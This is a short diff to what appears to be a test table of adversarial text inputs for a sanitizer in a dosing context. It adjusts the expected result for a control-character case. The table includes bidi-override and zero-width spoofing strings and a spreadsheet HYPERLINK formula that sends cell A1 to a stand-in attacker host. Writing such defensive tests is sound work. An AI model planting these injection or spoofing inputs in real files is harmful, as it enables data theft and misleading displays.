@@ -98,7 +98,7 @@ TRICKS = (
     _trick("override", "reversed \u202emg 02\u202c dose \u202d1\u202c", "", "U+202E", "U+202C", "U+202D"),
     _trick("isolates", "isolated \u2067\u2066never\u2068 closed \u2069 \u061c\u200f", "", "U+2067", "U+2066", "U+2068"),
     _trick("zero width", "si\u200bro\u200dli\u2060mus 1\u200b0 mg\ufeff x", "", "U+200B", "U+2060"),
-    _trick("controls", "bell \x07 escape \x1b[31m back \x08 delete \x7f csi \x9b end", ""),
+    _trick("controls", "bell \x07 escape \x1b[31m back \x08 delete \x7f csi \x9b end", "bell"),
     _trick("flood", "e" + "\u0301\u0300\u0302\u0303" * 100 + " climbs", "", "marks"),
     _trick("long word", "a" * 4000),
     _trick("formula", f'=HYPERLINK("https://{EVIL}/?x="&A1,"see")'),
